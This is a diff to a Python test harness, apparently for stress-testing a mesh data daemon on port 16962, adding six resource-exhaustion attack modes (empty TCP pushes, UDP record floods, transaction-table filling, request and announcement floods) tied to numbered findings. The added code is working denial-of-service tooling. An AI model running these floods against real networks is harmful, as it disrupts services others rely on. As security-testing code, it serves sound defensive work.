@@ -9,6 +9,8 @@ MODE is one of
   tcp   connection abuse against a daemon's TCP port 16962
   udp   a flood of random, truncated and lying datagrams to port 16962
   unix  abuse of a daemon's unix socket (runs in the victim's namespace)
+  res   well-formed traffic that makes the daemon hold, send or compute
+        much per byte (see resource_attack; test_hostile_resources.py)
 
 The attack runs for config["duration"] seconds (or until SIGTERM/SIGINT),
 then every socket is checked (still open / closed by the daemon), all are
@@ -403,11 +405,238 @@ def unix_attack(cfg: dict) -> dict:
     return stats
 
 
+# --------------------------------------------------------------------------- resources
+
+def _udp_socks(cfg: dict, port: int = 0) -> tuple[list, int]:
+    """One socket per source address; with port=PORT they also receive what
+    the victim sends to alfred's port (answers, syncs) at those addresses."""
+    scope = socket.if_nametoindex(cfg["ifname"])
+    socks = []
+    for src in cfg["sources"]:
+        s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
+        s.bind((src, port, 0, scope))
+        s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_IF, scope)
+        s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 20)
+        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 22)
+        s.setblocking(False)
+        socks.append(s)
+    return socks, scope
+
+
+def _tcp_connect(cfg: dict, src: str, timeout: float = 5.0) -> socket.socket:
+    scope = socket.if_nametoindex(cfg["ifname"])
+    s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
+    s.settimeout(timeout)
+    s.bind((src, 0, 0, scope))
+    s.connect((cfg["victim"], PORT, 0, scope))
+    return s
+
+
+def _drain_udp(socks: list, stats: dict) -> None:
+    for s in socks:
+        while True:
+            try:
+                d = s.recv(65536)
+            except (BlockingIOError, InterruptedError):
+                break
+            except OSError:
+                break
+            stats["bytes_back"] += len(d)
+            stats["datagrams_back"] += 1
+
+
+def _paced(rate: float, t0: float, n: int) -> bool:
+    """True when the n-th item is due at `rate` per second since t0."""
+    return n < (time.monotonic() - t0) * rate
+
+
+def resource_attack(cfg: dict) -> dict:
+    """cfg: victim, ifname, sources, duration, kind; kinds:
+      empty_pushes   one TCP connection: tx_ids x seqnos push-data packets of
+                     8 bytes with no records, never a txend (finding 2)
+      store_flood    UDP: complete transactions (push + txend), each with
+                     `records` zero-length records under random source MACs
+                     and types, `rate` transactions/s (finding 1)
+      tiny_stream    UDP: `fill` pushes from every source with distinct ids,
+                     never completed (the transaction table full), then one
+                     TCP connection streaming 4-byte announcements (finding 3)
+      udp_requests   UDP: 7-byte requests for type `req_type` at `rate`/s
+                     from every source; counts what comes back (finding 4)
+      tcp_requests   one TCP connection writes `count` requests at once, and
+                     one honest connection pipelines two (finding 4)
+      announces      UDP: 4-byte announcements from every source, `rate`/s in
+                     all (finding 5)"""
+    raise_nofile()
+    kind = cfg["kind"]
+    rnd = random.Random(cfg.get("seed", 7))
+    t0 = time.monotonic()
+    end = t0 + cfg["duration"]
+    stats: dict = {"kind": kind, "sent": 0, "bytes_sent": 0, "bytes_back": 0, "datagrams_back": 0,
+                   "errors": {}}
+
+    def err(e: OSError):
+        k = errno.errorcode.get(e.errno, str(e.errno)) if e.errno else type(e).__name__
+        stats["errors"][k] = stats["errors"].get(k, 0) + 1
+
+    if kind == "empty_pushes":
+        s = _tcp_connect(cfg, cfg["sources"][0])
+        s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 20)
+        s.settimeout(10)
+        ids, seqnos = cfg.get("tx_ids", 64), cfg.get("seqnos", 65535)
+        try:
+            for tx in range(ids):
+                if _stop or time.monotonic() > end:
+                    break
+                chunk = b"".join(push(0x4000 + tx, q, b"") for q in range(seqnos))
+                s.sendall(chunk)
+                stats["sent"] += seqnos
+                stats["bytes_sent"] += len(chunk)
+        except OSError as e:
+            err(e)
+        stats["send_s"] = round(time.monotonic() - t0, 2)
+        sleep_until(end)
+        stats["state"] = peer_state(s)
+        s.close()
+
+    elif kind == "store_flood":
+        socks, scope = _udp_socks(cfg)
+        dest = (cfg["victim"], PORT, 0, scope)
+        nrec, rate = cfg.get("records", 100), cfg.get("rate", 500)
+        n = 0
+        while not _stop and time.monotonic() < end:
+            if not _paced(rate, t0, n):
+                time.sleep(0.0005)
+                continue
+            recs = b"".join(record(rnd.randrange(64, 256), b"") for _ in range(nrec))
+            tx = rnd.randrange(0x10000)
+            sk = socks[n % len(socks)]
+            for pkt in (push(tx, 0, recs), txend(tx, 1)):
+                try:
+                    sk.sendto(pkt, dest)
+                    stats["sent"] += 1
+                    stats["bytes_sent"] += len(pkt)
+                except OSError as e:
+                    err(e)
+            n += 1
+        stats["records_sent"] = n * nrec
+        for sk in socks:
+            sk.close()
+
+    elif kind == "tiny_stream":
+        socks, scope = _udp_socks(cfg)
+        dest = (cfg["victim"], PORT, 0, scope)
+        for i, sk in enumerate(socks):
+            for tx in range(cfg.get("fill", 64)):
+                try:
+                    sk.sendto(push(tx, 0, record(64, b"x" * 16)), dest)
+                    stats["sent"] += 1
+                except OSError as e:
+                    err(e)
+            time.sleep(0.01)
+        s = _tcp_connect(cfg, cfg["sources"][0])
+        s.settimeout(10)
+        chunk = tlv(1, 0) * 4096
+        try:
+            while not _stop and time.monotonic() < end:
+                s.sendall(chunk)
+                stats["bytes_sent"] += len(chunk)
+        except OSError as e:
+            err(e)
+        stats["announces_streamed"] = stats["bytes_sent"] // 4
+        stats["state"] = peer_state(s)
+        s.close()
+
+    elif kind == "udp_requests":
+        socks, scope = _udp_socks(cfg, PORT)
+        dest = (cfg["victim"], PORT, 0, scope)
+        rate, n = cfg.get("rate", 2000), 0
+        req = request(cfg.get("req_type", 64), 0x7777)
+        while not _stop and time.monotonic() < end:
+            _drain_udp(socks, stats)
+            if not _paced(rate, t0, n):
+                time.sleep(0.0005)
+                continue
+            try:
+                socks[n % len(socks)].sendto(req, dest)
+                stats["sent"] += 1
+                stats["bytes_sent"] += len(req)
+            except OSError as e:
+                err(e)
+            n += 1
+        time.sleep(1.0)
+        _drain_udp(socks, stats)
+        for sk in socks:
+            sk.close()
+
+    elif kind == "tcp_requests":
+        # an honest peer pipelining two requests gets both answers
+        h = _tcp_connect(cfg, cfg["sources"][-1])
+        h.sendall(request(cfg.get("req_type", 64), 0x1111) + request(cfg.get("req_type", 64), 0x2222))
+        got = b""
+        h.settimeout(10)
+        try:
+            while True:
+                d = h.recv(65536)
+                if not d:
+                    break
+                got += d
+        except OSError as e:
+            err(e)
+        h.close()
+        ends, pos = [], 0
+        while pos + 4 <= len(got):
+            ptype, _v, ln = struct.unpack("!BBH", got[pos:pos + 4])
+            if ptype == 3 and ln >= 4:
+                ends.append(struct.unpack("!H", got[pos + 4:pos + 6])[0])
+            pos += 4 + ln
+        stats["pipelined_txends"] = sorted(ends)
+        stats["pipelined_bytes"] = len(got)
+        # the attacker: thousands of requests in one write, answers unread
+        s = _tcp_connect(cfg, cfg["sources"][0])
+        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
+        blob = b"".join(request(cfg.get("req_type", 64), i) for i in range(cfg.get("count", 5000)))
+        try:
+            s.sendall(blob)
+            stats["bytes_sent"] += len(blob)
+            stats["sent"] += cfg.get("count", 5000)
+        except OSError as e:
+            err(e)
+        time.sleep(2.0)
+        stats["state_after_2s"], stats["bytes_back"] = drain_state(s, 1 << 30)
+        s.close()
+        sleep_until(end)
+
+    elif kind == "announces":
+        socks, scope = _udp_socks(cfg, PORT)
+        dest = (cfg["victim"], PORT, 0, scope)
+        rate, n = cfg.get("rate", 2000), 0
+        pkt = tlv(1, 0)
+        while not _stop and time.monotonic() < end:
+            _drain_udp(socks, stats)
+            if not _paced(rate, t0, n):
+                time.sleep(0.0005)
+                continue
+            try:
+                socks[n % len(socks)].sendto(pkt, dest)
+                stats["sent"] += 1
+                stats["bytes_sent"] += len(pkt)
+            except OSError as e:
+                err(e)
+            n += 1
+        _drain_udp(socks, stats)
+        for sk in socks:
+            sk.close()
+    else:
+        raise SystemExit(f"unknown resource attack {kind}")
+    stats["elapsed_s"] = round(time.monotonic() - t0, 2)
+    return stats
+
+
 def main(argv: list[str]) -> int:
     signal.signal(signal.SIGTERM, _on_signal)
     signal.signal(signal.SIGINT, _on_signal)
     mode, cfg = argv[1], json.loads(argv[2])
-    fn = {"tcp": tcp_attack, "udp": udp_attack, "unix": unix_attack}[mode]
+    fn = {"tcp": tcp_attack, "udp": udp_attack, "unix": unix_attack, "res": resource_attack}[mode]
     report = fn(cfg)
     print("REPORT " + json.dumps(report, sort_keys=True), flush=True)
     return 0
